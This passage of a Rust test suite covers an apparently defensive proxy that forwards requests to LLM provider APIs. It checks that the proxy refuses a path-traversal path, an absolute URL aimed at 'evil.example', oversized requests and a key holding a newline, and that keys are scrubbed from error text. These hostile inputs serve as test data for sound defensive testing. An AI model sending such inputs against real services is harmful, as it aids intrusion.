        refused(r, method, ErrorCode::ValidationFailed);
        let (_, r) = run(&h.pass, request("GET", "/v1/../admin", &[], b"")).await;
        let dots = "path refused: holds a `.` or `..` segment";
        refused(r, dots, ErrorCode::ValidationFailed);
        let (_, r) = run(&h.pass, request("GET", "http://evil.example/x", &[], b"")).await;
        refused(
            r,
            "path refused: must start with `/`",
            ErrorCode::ValidationFailed,
        );
        let (_, r) = run(
            &h.pass,
            request("POST", "/v1/messages", &[], b"01234567890"),
        )
        .await;
        let big = "request body is larger than 10 bytes";
        refused(r, big, ErrorCode::ValidationFailed);
        let many: Vec<(String, String)> = (0..=MAX_REQUEST_HEADERS)
            .map(|i| (format!("x-h{i}"), "1".to_string()))
            .collect();
        let mut req = request("GET", "/v1/models", &[], b"");
        req.headers = many;
        let (_, r) = run(&h.pass, req).await;
        refused(
            r,
            "more than 128 request headers",
            ErrorCode::ValidationFailed,
        );
        assert!(h.fake.seen.lock().unwrap().is_empty(), "nothing was sent");
    }

    #[tokio::test]
    async fn responses_past_the_limits_or_unreadable_stop_with_an_error() {
        let limits = PassLimits {
            max_response_bytes: 1000,
            stall_timeout: Duration::from_millis(300),
            ..PassLimits::default()
        };
        let h = harness(AuthStyle::Header("x-api-key"), "", limits).await;
        let (events, r) = run(&h.pass, request("GET", "/v1/models?case=big", &[], b"")).await;
        let e = r.unwrap_err();
        assert!(
            matches!(e, PassError::ResponseTooLarge { limit: 1000, .. }),
            "{e}"
        );
        assert!(body_of(&events[1..]).len() <= 1000);

        let (events, r) = run(&h.pass, request("GET", "/v1/models?case=stall", &[], b"")).await;
        let e = r.unwrap_err();
        assert_eq!(e.to_string(), "provider anthropic sent nothing for 300ms");
        assert_eq!(e.code(), ErrorCode::ToolTimeout);
        assert_eq!(body_of(&events[1..]), "data: 1\n\n");

        let (events, r) = run(&h.pass, request("GET", "/v1/models?case=gzip", &[], b"")).await;
        let e = r.unwrap_err().to_string();
        assert_eq!(
            e,
            "response of provider anthropic cannot be scrubbed: content-encoding gzip"
        );
        assert!(events.is_empty());
        let (_, r) = run(&h.pass, request("GET", "/v1/models?case=audio", &[], b"")).await;
        let e = r.unwrap_err().to_string();
        assert_eq!(
            e,
            "response of provider anthropic cannot be scrubbed: content-type audio/mpeg"
        );
    }

    #[tokio::test]
    async fn redirects_are_handed_back_not_followed() {
        let h = harness(AuthStyle::Header("x-api-key"), "", PassLimits::default()).await;
        let (events, r) = run(
            &h.pass,
            request("GET", "/v1/models?case=redirect", &[], b""),
        )
        .await;
        assert_eq!(r.unwrap().status, 302);
        let PassEvent::Head { headers, .. } = &events[0] else {
            panic!("head first")
        };
        assert_eq!(header(headers, "location"), ["https://elsewhere.example/"]);
        assert_eq!(h.fake.seen.lock().unwrap().len(), 1);
    }

    #[tokio::test]
    async fn an_unreachable_provider_is_an_error_without_the_key() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);
        let target = PassTarget {
            name: "openai".into(),
            base_url: Url::parse(&format!("http://{addr}/v1")).unwrap(),
            auth: AuthStyle::Bearer,
            key: Secret::new(KEY.into()),
            extra_headers: Vec::new(),
        };
        let pass = Passthrough::new(
            vec![target],
            SharedScrubber::default(),
            PassLimits::default(),
        )
        .unwrap();
        let mut req = request("POST", "/chat/completions", &[], b"{}");
        req.provider = "openai".into();
        let (events, r) = run(&pass, req).await;
        let e = r.unwrap_err();
        assert!(events.is_empty());
        let text = e.to_string();
        assert!(
            text.starts_with("cannot reach provider openai: cannot connect"),
            "{text}"
        );
        assert!(!text.contains(KEY) && !format!("{e:?}").contains(KEY));
        assert_eq!(e.code(), ErrorCode::ToolError);
    }

    #[test]
    fn targets_are_checked_and_their_keys_join_the_scrubber() {
        let target = |name: &str, base: &str, key: &str| PassTarget {
            name: name.into(),
            base_url: Url::parse(base).unwrap(),
            auth: AuthStyle::Bearer,
            key: Secret::new(key.into()),
            extra_headers: Vec::new(),
        };
        let new = |targets| {
            Passthrough::new(targets, SharedScrubber::default(), PassLimits::default())
                .map(|p| format!("{p:?}"))
                .unwrap_or_else(|e| e.to_string())
        };
        let ok = "https://api.openai.com/v1";
        assert_eq!(
            new(vec![target("openai", ok, KEY)]),
            "Passthrough([\"openai\"])"
        );
        let cases = [
            (
                target("o", "https://u:p@h.example/", KEY),
                "base_url must not carry credentials",
            ),
            (
                target("o", "https://h.example/?a=1", KEY),
                "base_url must not have a query or a fragment",
            ),
            (
                target("o", "ftp://h.example/", KEY),
                "base_url must be an http or https url",
            ),
            (
                target("o", "mailto:a@b", KEY),
                "base_url must be an http or https url",
            ),
            (target("o", ok, ""), "the key is empty"),
            (
                target("o", ok, "short"),
                "the key is too short to be scrubbed",
            ),
            (
                target("o", ok, "long-enough\nkey"),
                "the key holds characters not allowed in a header",
            ),
            (
                target("a/b", ok, KEY),
                "the name must be letters, digits, `-` and `_`",
            ),
        ];
        for (t, reason) in cases {
            let name = t.name.clone();
            assert_eq!(
                new(vec![t]),
                format!("pass-through provider {name:?}: {reason}")
            );
        }
        let mut extra = target("o", ok, KEY);
        extra.extra_headers = vec![("Cookie".into(), "x".into())];
        assert_eq!(
            new(vec![extra]),
            "pass-through provider \"o\": extra header `cookie` cannot be set"
        );
        assert_eq!(
            new(vec![target("o", ok, KEY), target("o", ok, KEY)]),
            "pass-through provider \"o\": configured twice"
        );

        let scrubber = SharedScrubber::new(Scrubber::new(&[]));
        let key = "another-key-0123456789";
        Passthrough::new(
            vec![target("o", ok, key)],
            scrubber.clone(),
            PassLimits::default(),
        )
        .unwrap();
        let mut text = format!("echo {key}");
        assert!(scrubber.current().scrub_string(&mut text));
        assert_eq!(text, "echo [REDACTED]");
    }
}
